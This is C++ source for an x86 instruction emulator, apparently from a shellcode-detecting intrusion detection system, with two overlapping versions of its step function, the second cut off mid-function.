      std::uint64_t& edi = regs_[static_cast<unsigned>(RegFamily::kDi)];
      switch (insn.mnemonic) {
        case Mnemonic::kMovs: {
          auto v = load(esi & va_mask, bits);
          if (!v || !store(edi & va_mask, bits, *v)) return;
          esi += delta;
          edi += delta;
          break;
        }
        case Mnemonic::kStos: {
          if (!store(edi & va_mask, bits, regs_[0] & mask_of(bits))) return;
          edi += delta;
          break;
        }
        case Mnemonic::kLods: {
          auto v = load(esi & va_mask, bits);
          if (!v) return;
          write_reg(Reg{RegFamily::kAx, insn.op_width}, *v);
          esi += delta;
          break;
        }
        case Mnemonic::kScas: {
          auto v = load(edi & va_mask, bits);
          if (!v) return;
          set_sub_flags(regs_[0] & mask_of(bits), *v, bits);
          edi += delta;
          break;
        }
        default: {  // cmps
          auto a = load(esi & va_mask, bits);
          auto b = load(edi & va_mask, bits);
          if (!a || !b) return;
          set_sub_flags(*a, *b, bits);
          esi += delta;
          edi += delta;
          break;
        }
      }
      if (rep) {
        --ecx;
        bool continue_rep = (ecx & va_mask) != 0;
        if (insn.mnemonic == Mnemonic::kScas || insn.mnemonic == Mnemonic::kCmps) {
          if (insn.prefixes.rep) continue_rep = continue_rep && flags_.zf;
          if (insn.prefixes.repne) continue_rep = continue_rep && !flags_.zf;
        }
        if (continue_rep) new_eip = eip_;  // re-execute (one iteration per step)
      }
      break;
    }
    case Mnemonic::kXlat: {
      auto v = load((regs_[static_cast<unsigned>(RegFamily::kBx)] + (regs_[0] & 0xff)) &
                        va_mask,
                    8);
      if (!v) return;
      write_reg(Reg{RegFamily::kAx, RegWidth::k8Lo}, *v);
      break;
    }

    // --------------------------------------------------- flags and misc
    case Mnemonic::kClc: flags_.cf = false; break;
    case Mnemonic::kStc: flags_.cf = true; break;
    case Mnemonic::kCmc: flags_.cf = !flags_.cf; break;
    case Mnemonic::kCld: flags_.df = false; break;
    case Mnemonic::kStd: flags_.df = true; break;
    case Mnemonic::kSahf: {
      const std::uint64_t ah = (regs_[0] >> 8) & 0xff;
      flags_.cf = ah & 1;
      flags_.pf = ah & 4;
      flags_.zf = ah & 0x40;
      flags_.sf = ah & 0x80;
      break;
    }
    case Mnemonic::kLahf: {
      const std::uint64_t ah = (flags_.cf ? 1u : 0) | 2u | (flags_.pf ? 4u : 0) |
                               (flags_.zf ? 0x40u : 0) | (flags_.sf ? 0x80u : 0);
      write_reg(Reg{RegFamily::kAx, RegWidth::k8Hi}, ah);
      break;
    }
    case Mnemonic::kSalc:
      write_reg(Reg{RegFamily::kAx, RegWidth::k8Lo}, flags_.cf ? 0xff : 0);
      break;
    case Mnemonic::kSetcc:
      write_operand(op0, 8, cond_holds(insn.cond) ? 1 : 0);
      break;
    case Mnemonic::kCmov: {
      auto v = read_operand(op1, op_bits(insn, op1));
      if (!v) return;
      if (cond_holds(insn.cond)) write_operand(op0, op_bits(insn, op0), *v);
      break;
    }
    case Mnemonic::kBswap: {
      const unsigned bits = op_bits(insn, op0);
      auto v = read_operand(op0, bits);
      if (!v) return;
      std::uint64_t r = 0;
      for (unsigned i = 0; i < bits / 8; ++i) r = (r << 8) | ((*v >> (8 * i)) & 0xff);
      write_operand(op0, bits, r);
      break;
    }
    case Mnemonic::kXadd: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      const AddResult r = add_with_carry(*a, *b, false, bits);
      set_add_flags(*a, *b, r.value, r.carry, bits);
      if (!write_operand(op1, bits, *a)) return;
      write_operand(op0, bits, r.value);
      break;
    }
    case Mnemonic::kCmpxchg: {
      const unsigned bits = op_bits(insn, op0);
      auto dst = read_operand(op0, bits);
      auto src = read_operand(op1, bits);
      if (!dst || !src) return;
      const std::uint64_t acc = regs_[0] & mask_of(bits);
      set_sub_flags(acc, *dst, bits);
      if (acc == (*dst & mask_of(bits))) {
        write_operand(op0, bits, *src);
      } else {
        write_reg(Reg{RegFamily::kAx,
                      bits == 8    ? RegWidth::k8Lo
                      : bits == 16 ? RegWidth::k16
                      : bits == 64 ? RegWidth::k64
                                   : RegWidth::k32},
                  *dst);
      }
      break;
    }

    // BCD adjustments: executed as no-ops (sled filler only; the decoders
    // initialize their registers afterwards).
    case Mnemonic::kDaa:
    case Mnemonic::kDas:
    case Mnemonic::kAaa:
    case Mnemonic::kAas:
    case Mnemonic::kNop:
    case Mnemonic::kWait:
    case Mnemonic::kCli:
    case Mnemonic::kSti:
      break;

    // Benign reads of machine state: zeroed.
    case Mnemonic::kCpuid:
      regs_[0] = regs_[1] = regs_[2] = regs_[3] = 0;
      break;
    case Mnemonic::kRdtsc:
      regs_[static_cast<unsigned>(RegFamily::kAx)] = 0;
      regs_[static_cast<unsigned>(RegFamily::kDx)] = 0;
      break;
    case Mnemonic::kIn:
      write_reg(Reg{RegFamily::kAx, insn.op_width}, 0);
      break;
    case Mnemonic::kOut:
      break;

    case Mnemonic::kBt:
    case Mnemonic::kBts:
    case Mnemonic::kBtr:
    case Mnemonic::kBtc:
    case Mnemonic::kBsf:
    case Mnemonic::kBsr: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      switch (insn.mnemonic) {
        case Mnemonic::kBsf:
          if (*b) {
            write_operand(op0, bits, static_cast<std::uint64_t>(std::countr_zero(*b)));
          }
          flags_.zf = *b == 0;
          break;
        case Mnemonic::kBsr:
          if (*b) {
            write_operand(op0, bits,
                          63u - static_cast<std::uint64_t>(std::countl_zero(*b)));
          }
          flags_.zf = *b == 0;
          break;
        default: {
          const unsigned idx = *b & (bits - 1);
          flags_.cf = (*a >> idx) & 1;
          std::uint64_t x = *a;
          if (insn.mnemonic == Mnemonic::kBts) x |= (1ull << idx);
          if (insn.mnemonic == Mnemonic::kBtr) x &= ~(1ull << idx);
          if (insn.mnemonic == Mnemonic::kBtc) x ^= (1ull << idx);
          if (insn.mnemonic != Mnemonic::kBt) write_operand(op0, bits, x);
          break;
        }
      }
      break;
    }

    case Mnemonic::kFpuNop:
      last_fpu_va_ = static_cast<std::uint32_t>(eip_);
      break;
    case Mnemonic::kFnstenv: {
      // Write the 28-byte environment: zeros except FIP at +12.
      const std::uint64_t base = mem_addr(op0.mem);
      for (std::uint32_t i = 0; i < 28; i += 4) {
        if (!store(base + i, 32, i == 12 ? last_fpu_va_ : 0)) return;
      }
      break;
    }

    case Mnemonic::kHlt:
    case Mnemonic::kInt3:
    case Mnemonic::kInto:
      stop_ = StopReason::kHalted;
      return;

    case Mnemonic::kRetf:
    case Mnemonic::kIret:
    case Mnemonic::kInvalid:
      stop_ = StopReason::kUnsupported;
      return;
  }

  if (mode_ == Mode::k32) {
    // IA-32 registers are 32 bits wide: re-mask after direct 64-bit
    // arithmetic so wraparound semantics match real hardware.
    for (auto& r : regs_) r &= 0xffffffffull;
  }
  if (stop_ == StopReason::kRunning) eip_ = new_eip & va_mask;
}

}  // namespace senids::emu

namespace senids::arch {

std::unique_ptr<emu::Cpu> Arch::make_cpu(emu::VirtualMemory& mem,
                                         std::uint32_t entry_va) const {
  return std::make_unique<emu::Cpu>(mem, entry_va, mode_);
}

}  // namespace senids::arch
