#include "emu/cpu.hpp"

#include <bit>

namespace senids::emu {

using x86::Cond;
using x86::Instruction;
using x86::MemRef;
using x86::Mnemonic;
using x86::Operand;
using x86::OperandKind;
using x86::Reg;
using x86::RegFamily;
using x86::RegWidth;

std::string_view stop_reason_name(StopReason r) noexcept {
  switch (r) {
    case StopReason::kRunning: return "running";
    case StopReason::kMaxSteps: return "max-steps";
    case StopReason::kInvalidInsn: return "invalid-instruction";
    case StopReason::kUnmappedFetch: return "unmapped-fetch";
    case StopReason::kUnmappedAccess: return "unmapped-access";
    case StopReason::kUnsupported: return "unsupported-instruction";
    case StopReason::kHalted: return "halted";
    case StopReason::kSyscallStop: return "syscall-stop";
    case StopReason::kDivByZero: return "divide-by-zero";
  }
  return "?";
}

namespace {

std::uint32_t mask_of(unsigned bits) {
  return bits >= 32 ? 0xffffffffu : ((1u << bits) - 1);
}

/// Operand width in bits, given the instruction context.
unsigned op_bits(const Instruction& insn, const Operand& op) {
  switch (op.kind) {
    case OperandKind::kReg:
      return width_bits(op.reg.width);
    case OperandKind::kMem:
      return width_bits(op.mem.width);
    default:
      return width_bits(insn.op_width);
  }
}

bool parity_even(std::uint32_t v) {
  return (std::popcount(v & 0xff) % 2) == 0;
}

}  // namespace

Cpu::Cpu(VirtualMemory& mem, std::uint32_t entry_va) : mem_(mem), eip_(entry_va) {
  regs_[static_cast<unsigned>(RegFamily::kSp)] = kStackTop - 0x1000;
}

std::uint32_t Cpu::read_reg(Reg r) const {
  const std::uint32_t full = regs_[static_cast<unsigned>(r.family)];
  switch (r.width) {
    case RegWidth::k32: return full;
    case RegWidth::k16: return full & 0xffff;
    case RegWidth::k8Lo: return full & 0xff;
    case RegWidth::k8Hi: return (full >> 8) & 0xff;
  }
  return full;
}

void Cpu::write_reg(Reg r, std::uint32_t v) {
  std::uint32_t& full = regs_[static_cast<unsigned>(r.family)];
  switch (r.width) {
    case RegWidth::k32: full = v; break;
    case RegWidth::k16: full = (full & 0xffff0000u) | (v & 0xffff); break;
    case RegWidth::k8Lo: full = (full & 0xffffff00u) | (v & 0xff); break;
    case RegWidth::k8Hi: full = (full & 0xffff00ffu) | ((v & 0xff) << 8); break;
  }
}

std::uint32_t Cpu::mem_addr(const MemRef& m) const {
  std::uint32_t addr = static_cast<std::uint32_t>(m.disp);
  if (m.base) addr += regs_[static_cast<unsigned>(m.base->family)];
  if (m.index) addr += regs_[static_cast<unsigned>(m.index->family)] * m.scale;
  return addr;
}

std::optional<std::uint32_t> Cpu::load(std::uint32_t addr, unsigned bits) {
  std::optional<std::uint32_t> v;
  switch (bits) {
    case 8: {
      auto b = mem_.read8(addr);
      if (b) v = *b;
      break;
    }
    case 16: {
      auto b = mem_.read16(addr);
      if (b) v = *b;
      break;
    }
    default: {
      auto b = mem_.read32(addr);
      if (b) v = *b;
      break;
    }
  }
  if (!v) stop_ = StopReason::kUnmappedAccess;
  return v;
}

bool Cpu::store(std::uint32_t addr, unsigned bits, std::uint32_t v) {
  bool ok;
  switch (bits) {
    case 8: ok = mem_.write8(addr, static_cast<std::uint8_t>(v)); break;
    case 16: ok = mem_.write16(addr, static_cast<std::uint16_t>(v)); break;
    default: ok = mem_.write32(addr, v); break;
  }
  if (!ok) stop_ = StopReason::kUnmappedAccess;
  return ok;
}

std::optional<std::uint32_t> Cpu::read_operand(const Operand& op, unsigned bits) {
  switch (op.kind) {
    case OperandKind::kReg:
      return read_reg(op.reg);
    case OperandKind::kImm:
    case OperandKind::kRel:
      return static_cast<std::uint32_t>(op.imm) & mask_of(bits);
    case OperandKind::kMem:
      return load(mem_addr(op.mem), bits);
    case OperandKind::kNone:
      return 0;
  }
  return 0;
}

bool Cpu::write_operand(const Operand& op, unsigned bits, std::uint32_t v) {
  if (op.kind == OperandKind::kReg) {
    write_reg(op.reg, v);
    return true;
  }
  if (op.kind == OperandKind::kMem) {
    return store(mem_addr(op.mem), bits, v);
  }
  return true;
}

void Cpu::set_logic_flags(std::uint32_t result, unsigned bits) {
  result &= mask_of(bits);
  flags_.cf = false;
  flags_.of = false;
  flags_.zf = result == 0;
  flags_.sf = (result >> (bits - 1)) & 1;
  flags_.pf = parity_even(result);
}

void Cpu::set_add_flags(std::uint32_t a, std::uint32_t b, std::uint64_t wide,
                        unsigned bits) {
  const std::uint32_t result = static_cast<std::uint32_t>(wide) & mask_of(bits);
  flags_.cf = (wide >> bits) != 0;
  flags_.zf = result == 0;
  flags_.sf = (result >> (bits - 1)) & 1;
  flags_.of = (((a ^ result) & (b ^ result)) >> (bits - 1)) & 1;
  flags_.pf = parity_even(result);
}

void Cpu::set_sub_flags(std::uint32_t a, std::uint32_t b, unsigned bits) {
  const std::uint32_t m = mask_of(bits);
  a &= m;
  b &= m;
  const std::uint32_t result = (a - b) & m;
  flags_.cf = a < b;
  flags_.zf = result == 0;
  flags_.sf = (result >> (bits - 1)) & 1;
  flags_.of = (((a ^ b) & (a ^ result)) >> (bits - 1)) & 1;
  flags_.pf = parity_even(result);
}

bool Cpu::cond_holds(Cond c) const {
  switch (c) {
    case Cond::kO: return flags_.of;
    case Cond::kNo: return !flags_.of;
    case Cond::kB: return flags_.cf;
    case Cond::kAe: return !flags_.cf;
    case Cond::kE: return flags_.zf;
    case Cond::kNe: return !flags_.zf;
    case Cond::kBe: return flags_.cf || flags_.zf;
    case Cond::kA: return !flags_.cf && !flags_.zf;
    case Cond::kS: return flags_.sf;
    case Cond::kNs: return !flags_.sf;
    case Cond::kP: return flags_.pf;
    case Cond::kNp: return !flags_.pf;
    case Cond::kL: return flags_.sf != flags_.of;
    case Cond::kGe: return flags_.sf == flags_.of;
    case Cond::kLe: return flags_.zf || (flags_.sf != flags_.of);
    case Cond::kG: return !flags_.zf && flags_.sf == flags_.of;
  }
  return false;
}

StopReason Cpu::run(std::size_t max_steps, const SyscallHook& hook) {
  stop_ = StopReason::kRunning;
  while (stop_ == StopReason::kRunning) {
    if (steps_ >= max_steps) {
      stop_ = StopReason::kMaxSteps;
      break;
    }
    ++steps_;
    step(hook);
  }
  return stop_;
}

void Cpu::step(const SyscallHook& hook) {
  // Fetch a decode window through the MMU.
  std::uint8_t window[15];
  std::size_t avail = 0;
  for (; avail < sizeof window; ++avail) {
    auto b = mem_.read8(eip_ + static_cast<std::uint32_t>(avail));
    if (!b) break;
    window[avail] = *b;
  }
  if (avail == 0) {
    stop_ = StopReason::kUnmappedFetch;
    return;
  }
  const Instruction insn = x86::decode(util::ByteView(window, avail), 0);
  if (!insn.valid()) {
    stop_ = StopReason::kInvalidInsn;
    return;
  }
  const std::uint32_t next_eip = eip_ + insn.length;
  // Relative targets were resolved within the fetch window (whose base is
  // eip_), so the flat sum recovers the virtual target.
  const auto branch_va = [&]() {
    return eip_ + static_cast<std::uint32_t>(insn.ops[0].imm);
  };

  auto push32 = [&](std::uint32_t v) {
    std::uint32_t& esp = regs_[static_cast<unsigned>(RegFamily::kSp)];
    esp -= 4;
    return store(esp, 32, v);
  };
  auto pop32 = [&]() -> std::optional<std::uint32_t> {
    std::uint32_t& esp = regs_[static_cast<unsigned>(RegFamily::kSp)];
    auto v = load(esp, 32);
    if (v) esp += 4;
    return v;
  };

  const Operand& op0 = insn.ops[0];
  const Operand& op1 = insn.ops[1];
  std::uint32_t new_eip = next_eip;

  switch (insn.mnemonic) {
    // ----------------------------------------------------------- moves
    case Mnemonic::kMov:
    case Mnemonic::kMovzx: {
      const unsigned src_bits = op_bits(insn, op1);
      auto v = read_operand(op1, src_bits);
      if (!v) return;
      write_operand(op0, op_bits(insn, op0), *v);
      break;
    }
    case Mnemonic::kMovsx: {
      const unsigned src_bits = op_bits(insn, op1);
      auto v = read_operand(op1, src_bits);
      if (!v) return;
      std::uint32_t x = *v;
      if (src_bits < 32 && (x >> (src_bits - 1)) & 1) x |= ~mask_of(src_bits);
      write_operand(op0, op_bits(insn, op0), x);
      break;
    }
    case Mnemonic::kLea:
      write_operand(op0, 32, mem_addr(op1.mem));
      break;
    case Mnemonic::kXchg: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      if (!write_operand(op0, bits, *b)) return;
      write_operand(op1, bits, *a);
      break;
    }

    // ------------------------------------------------------------- ALU
    case Mnemonic::kAdd:
    case Mnemonic::kAdc: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      const std::uint64_t wide = static_cast<std::uint64_t>(*a & mask_of(bits)) +
                                 (*b & mask_of(bits)) +
                                 (insn.mnemonic == Mnemonic::kAdc && flags_.cf ? 1 : 0);
      set_add_flags(*a, *b, wide, bits);
      write_operand(op0, bits, static_cast<std::uint32_t>(wide) & mask_of(bits));
      break;
    }
    case Mnemonic::kSub:
    case Mnemonic::kSbb: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      const std::uint32_t borrow = insn.mnemonic == Mnemonic::kSbb && flags_.cf ? 1 : 0;
      const std::uint32_t rhs = (*b + borrow) & mask_of(bits);
      set_sub_flags(*a, rhs, bits);
      write_operand(op0, bits, (*a - rhs) & mask_of(bits));
      break;
    }
    case Mnemonic::kCmp: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      set_sub_flags(*a, *b, bits);
      break;
    }
    case Mnemonic::kAnd:
    case Mnemonic::kOr:
    case Mnemonic::kXor:
    case Mnemonic::kTest: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      if (!a || !b) return;
      std::uint32_t r;
      switch (insn.mnemonic) {
        case Mnemonic::kAnd:
        case Mnemonic::kTest: r = *a & *b; break;
        case Mnemonic::kOr: r = *a | *b; break;
        default: r = *a ^ *b; break;
      }
      set_logic_flags(r, bits);
      if (insn.mnemonic != Mnemonic::kTest) write_operand(op0, bits, r & mask_of(bits));
      break;
    }
    case Mnemonic::kInc:
    case Mnemonic::kDec: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      const bool saved_cf = flags_.cf;  // inc/dec leave CF untouched
      if (insn.mnemonic == Mnemonic::kInc) {
        set_add_flags(*a, 1, static_cast<std::uint64_t>(*a & mask_of(bits)) + 1, bits);
        write_operand(op0, bits, (*a + 1) & mask_of(bits));
      } else {
        set_sub_flags(*a, 1, bits);
        write_operand(op0, bits, (*a - 1) & mask_of(bits));
      }
      flags_.cf = saved_cf;
      break;
    }
    case Mnemonic::kNot: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      write_operand(op0, bits, ~*a & mask_of(bits));
      break;
    }
    case Mnemonic::kNeg: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      set_sub_flags(0, *a, bits);
      write_operand(op0, bits, (0u - *a) & mask_of(bits));
      break;
    }

    // ---------------------------------------------------------- shifts
    case Mnemonic::kShl:
    case Mnemonic::kShr:
    case Mnemonic::kSar:
    case Mnemonic::kRol:
    case Mnemonic::kRor:
    case Mnemonic::kRcl:
    case Mnemonic::kRcr: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto cnt = read_operand(op1, 8);
      if (!a || !cnt) return;
      const unsigned n = *cnt & 31;
      std::uint32_t x = *a & mask_of(bits);
      if (n != 0) {
        switch (insn.mnemonic) {
          case Mnemonic::kShl:
            flags_.cf = n <= bits && ((x >> (bits - n)) & 1);
            x = (n < 32) ? (x << n) : 0;
            break;
          case Mnemonic::kShr:
            flags_.cf = (x >> (n - 1)) & 1;
            x = (n < 32) ? (x >> n) : 0;
            break;
          case Mnemonic::kSar: {
            std::int32_t s = static_cast<std::int32_t>(
                x << (32 - bits));  // sign-position align
            s >>= (32 - bits);      // sign-extend to 32
            flags_.cf = (static_cast<std::uint32_t>(s) >> (n - 1)) & 1;
            s >>= (n < 31 ? n : 31);
            x = static_cast<std::uint32_t>(s);
            break;
          }
          case Mnemonic::kRol: {
            const unsigned r = n % bits;
            if (r) x = ((x << r) | (x >> (bits - r)));
            flags_.cf = x & 1;
            break;
          }
          case Mnemonic::kRor: {
            const unsigned r = n % bits;
            if (r) x = ((x >> r) | (x << (bits - r)));
            flags_.cf = (x >> (bits - 1)) & 1;
            break;
          }
          case Mnemonic::kRcl:
          case Mnemonic::kRcr: {
            // Rotate through carry, one bit at a time (counts are tiny).
            for (unsigned i = 0; i < n; ++i) {
              if (insn.mnemonic == Mnemonic::kRcl) {
                const bool msb = (x >> (bits - 1)) & 1;
                x = (x << 1) | (flags_.cf ? 1 : 0);
                flags_.cf = msb;
              } else {
                const bool lsb = x & 1;
                x = (x >> 1) | ((flags_.cf ? 1u : 0u) << (bits - 1));
                flags_.cf = lsb;
              }
            }
            break;
          }
          default:
            break;
        }
        x &= mask_of(bits);
        flags_.zf = x == 0;
        flags_.sf = (x >> (bits - 1)) & 1;
        flags_.pf = parity_even(x);
      }
      write_operand(op0, bits, x);
      break;
    }
    case Mnemonic::kShld:
    case Mnemonic::kShrd: {
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      auto b = read_operand(op1, bits);
      auto cnt = read_operand(insn.ops[2], 8);
      if (!a || !b || !cnt) return;
      const unsigned n = *cnt & 31;
      std::uint32_t x = *a;
      if (n != 0 && n < bits) {
        x = insn.mnemonic == Mnemonic::kShld ? ((*a << n) | (*b >> (bits - n)))
                                             : ((*a >> n) | (*b << (bits - n)));
      }
      set_logic_flags(x, bits);
      write_operand(op0, bits, x & mask_of(bits));
      break;
    }

    // ------------------------------------------------------- mul / div
    case Mnemonic::kMul:
    case Mnemonic::kImul: {
      if (op1.kind != OperandKind::kNone) {  // two/three operand imul
        const unsigned bits = op_bits(insn, op0);
        auto a = insn.ops[2].kind != OperandKind::kNone ? read_operand(op1, bits)
                                                        : read_operand(op0, bits);
        auto b = insn.ops[2].kind != OperandKind::kNone ? read_operand(insn.ops[2], bits)
                                                        : read_operand(op1, bits);
        if (!a || !b) return;
        write_operand(op0, bits, (*a * *b) & mask_of(bits));
        break;
      }
      const unsigned bits = op_bits(insn, op0);
      auto a = read_operand(op0, bits);
      if (!a) return;
      const std::uint64_t wide =
          static_cast<std::uint64_t>(regs_[0] & mask_of(bits)) * (*a & mask_of(bits));
      if (bits == 32) {
        regs_[static_cast<unsigned>(RegFamily::kAx)] = static_cast<std::uint32_t>(wide);
        regs_[static_cast<unsigned>(RegFamily::kDx)] =
            static_cast<std::uint32_t>(wide >> 32);
      } else {
        write_reg(Reg{RegFamily::kAx, RegWidth::k16},
                  static_cast<std::uint32_t>(wide) & 0xffff);
      }
      break;
    }
    case Mnemonic::kDiv:
    case Mnemonic::kIdiv: {
      const unsigned bits = op_bits(insn, op0);
      auto d = read_operand(op0, bits);
      if (!d) return;
      if ((*d & mask_of(bits)) == 0) {
        stop_ = StopReason::kDivByZero;
        return;
      }
      if (bits == 32) {
        const std::uint64_t num =
            (static_cast<std::uint64_t>(regs_[static_cast<unsigned>(RegFamily::kDx)])
             << 32) |
            regs_[static_cast<unsigned>(RegFamily::kAx)];
        const std::uint64_t q = num / *d;
        if (q > 0xffffffffull) {
          stop_ = StopReason::kDivByZero;  // quotient overflow faults too
          return;
        }
        regs_[static_cast<unsigned>(RegFamily::kAx)] = static_cast<std::uint32_t>(q);
        regs_[static_cast<unsigned>(RegFamily::kDx)] =
            static_cast<std::uint32_t>(num % *d);
      } else {
        const std::uint32_t num = regs_[static_cast<unsigned>(RegFamily::kAx)] &
                                  (bits == 16 ? 0xffffffffu : 0xffff);
        write_reg(Reg{RegFamily::kAx, RegWidth::k16}, (num / *d) & 0xffff);
      }
      break;
    }
    case Mnemonic::kCwde: {
      std::uint32_t ax = regs_[0] & 0xffff;
      if (ax & 0x8000) ax |= 0xffff0000u;
      regs_[static_cast<unsigned>(RegFamily::kAx)] = ax;
      break;
    }
    case Mnemonic::kCdq:
      regs_[static_cast<unsigned>(RegFamily::kDx)] =
          (regs_[0] & 0x80000000u) ? 0xffffffffu : 0;
      break;

    // ------------------------------------------------------------ stack
    case Mnemonic::kPush: {
      std::uint32_t v = 0;
      if (op0.kind != OperandKind::kNone) {
        auto r = read_operand(op0, 32);
        if (!r) return;
        v = *r;
      }
      if (!push32(v)) return;
      break;
    }
    case Mnemonic::kPop: {
      auto v = pop32();
      if (!v) return;
      if (op0.kind != OperandKind::kNone) write_operand(op0, 32, *v);
      break;
    }
    case Mnemonic::kPushf:
      if (!push32((flags_.cf ? 1u : 0) | (flags_.pf ? 4u : 0) | (flags_.zf ? 0x40u : 0) |
                  (flags_.sf ? 0x80u : 0) | (flags_.df ? 0x400u : 0) |
                  (flags_.of ? 0x800u : 0))) {
        return;
      }
      break;
    case Mnemonic::kPopf: {
      auto v = pop32();
      if (!v) return;
      flags_.cf = *v & 1;
      flags_.pf = *v & 4;
      flags_.zf = *v & 0x40;
      flags_.sf = *v & 0x80;
      flags_.df = *v & 0x400;
      flags_.of = *v & 0x800;
      break;
    }
    case Mnemonic::kPusha: {
      const std::uint32_t saved_esp = regs_[static_cast<unsigned>(RegFamily::kSp)];
      for (unsigned f = 0; f < 8; ++f) {
        if (!push32(f == static_cast<unsigned>(RegFamily::kSp) ? saved_esp : regs_[f])) {
          return;
        }
      }
      break;
    }
    case Mnemonic::kPopa:
      for (int f = 7; f >= 0; --f) {
        auto v = pop32();
        if (!v) return;
        if (f != static_cast<int>(RegFamily::kSp)) regs_[static_cast<unsigned>(f)] = *v;
      }
      break;
    case Mnemonic::kLeave: {
      regs_[static_cast<unsigned>(RegFamily::kSp)] =
          regs_[static_cast<unsigned>(RegFamily::kBp)];
      auto v = pop32();
      if (!v) return;
      regs_[static_cast<unsigned>(RegFamily::kBp)] = *v;
      break;
    }
    case Mnemonic::kEnter: {
      if (!push32(regs_[static_cast<unsigned>(RegFamily::kBp)])) return;
      regs_[static_cast<unsigned>(RegFamily::kBp)] =
          regs_[static_cast<unsigned>(RegFamily::kSp)];
      regs_[static_cast<unsigned>(RegFamily::kSp)] -=
          static_cast<std::uint32_t>(op0.imm);
      break;
    }

    // ----------------------------------------------------- control flow
    case Mnemonic::kJmp:
      if (op0.kind == OperandKind::kRel) {
        new_eip = branch_va();
      } else {
        auto v = read_operand(op0, 32);
        if (!v) return;
        new_eip = *v;
      }
      break;
    case Mnemonic::kJcc:
      if (cond_holds(insn.cond)) new_eip = branch_va();
      break;
    case Mnemonic::kJecxz:
      if (regs_[static_cast<unsigned>(RegFamily::kCx)] == 0) new_eip = branch_va();
      break;
    case Mnemonic::kLoop:
    case Mnemonic::kLoope:
    case Mnemonic::kLoopne: {
      std::uint32_t& ecx = regs_[static_cast<unsigned>(RegFamily::kCx)];
      --ecx;
      bool taken = ecx != 0;
      if (insn.mnemonic == Mnemonic::kLoope) taken = taken && flags_.zf;
      if (insn.mnemonic == Mnemonic::kLoopne) taken = taken && !flags_.zf;
      if (taken) new_eip = branch_va();
      break;
    }
    case Mnemonic::kCall: {
      std::uint32_t target;
      if (op0.kind == OperandKind::kRel) {
        target = branch_va();
      } else {
        auto v = read_operand(op0, 32);
        if (!v) return;
        target = *v;
      }
      if (!push32(next_eip)) return;
      new_eip = target;
      break;
    }
    case Mnemonic::kRet: {
      auto v = pop32();
      if (!v) return;
      if (op0.kind == OperandKind::kImm) {
        regs_[static_cast<unsigned>(RegFamily::kSp)] +=
            static_cast<std::uint32_t>(op0.imm);
      }
      new_eip = *v;
      break;
    }

    case Mnemonic::kInt: {
      SyscallRecord rec;
      rec.vector = static_cast<std::uint8_t>(op0.imm);
      rec.regs = regs_;
      rec.step = steps_;
      std::optional<std::uint32_t> ret = hook ? hook(rec) : std::nullopt;
      if (!ret) {
        stop_ = StopReason::kSyscallStop;
        return;
      }
      regs_[static_cast<unsigned>(RegFamily::kAx)] = *ret;
      break;
    }

    // -------------------------------------------------------- string ops
    case Mnemonic::kMovs:
    case Mnemonic::kStos:
    case Mnemonic::kLods:
    case Mnemonic::kScas:
    case Mnemonic::kCmps: {
      std::uint32_t& ecx = regs_[static_cast<unsigned>(RegFamily::kCx)];
      const bool rep = insn.prefixes.rep || insn.prefixes.repne;
      if (rep && ecx == 0) break;  // finished: fall through to next insn
      const unsigned bits = width_bits(insn.op_width);
      const std::uint32_t delta = flags_.df ? 0u - bits / 8 : bits / 8;
      std::uint32_t& esi = regs_[static_cast<unsigned>(RegFamily::kSi)];
      std::uint32_t& edi = regs_[static_cast<unsigned>(RegFamily::kDi)];
      switch (insn.mnemonic) {
        case Mnemonic::kMovs: {
          auto v = load(esi, bits);
          if (!v || !store(edi, bits, *v)) return;
          esi += delta;
          edi += delta;
          break;
        }
        case Mnemonic::kStos: {
          if (!store(edi, bits, regs_[0] & mask_of(bits))) return;
          edi += delta;
          break;
        }
        case Mnemonic::kLods: {
          auto v = load(esi, bits);
          if (!v) return;
          write_reg(Reg{RegFamily::kAx, insn.op_width}, *v);
          esi += delta;
          break;
        }
        case Mnemonic::kScas: {
          auto v = load(edi, bits);
          if (!v) return;
          set_sub_flags(regs_[0] & mask_of(bits), *v, bits);
          edi += delta;
          break;
        }
        default: {  // cmps
          auto a = load(esi, bits);
          auto b = load(edi, bits);
          if (!a || !b) return;
          set_sub_flags(*a, *b, bits);
          esi += delta;
          edi += delta;
          break;
        }
      }
      if (rep) {
        --ecx;
        bool continue_rep = ecx != 0;
        if (insn.mnemonic == Mnemonic::kScas || insn.mnemonic == Mnemonic::kCmps) {
          if (insn.prefixes.rep) continue_rep = continue_rep && flags_.zf;
          if (insn.prefixes.repne) continue_rep = continue_rep && !flags_.zf;
        }
        if (continue_rep) new_eip = eip_;  // re-execute (one iteration per step)
      }
      break;
    }
    case Mnemonic::kXlat: {
      auto v = load(regs_[static_cast<unsigned>(RegFamily::kBx)] + (regs_[0] & 0xff), 8);
      if (!v) return;
      write_reg(Reg{RegFamily::kAx, RegWidth::k8Lo}, *v);
      break;
    }

    // --------------------------------------------------- flags and misc
    case Mnemonic::kClc: flags_.cf = false; break;
    case Mnemonic::kStc: flags_.cf = true; break;
    case Mnemonic::kCmc: flags_.cf = !flags_.cf; break;
    case Mnemonic::kCld: flags_.df = false; break;
    case Mnemonic::kStd: flags_.df = true; break;
    case Mnemonic::kSahf: {
      const std::uint32_t ah = (regs_[0] >> 8) & 0xff;
      flags_.cf = ah & 1;
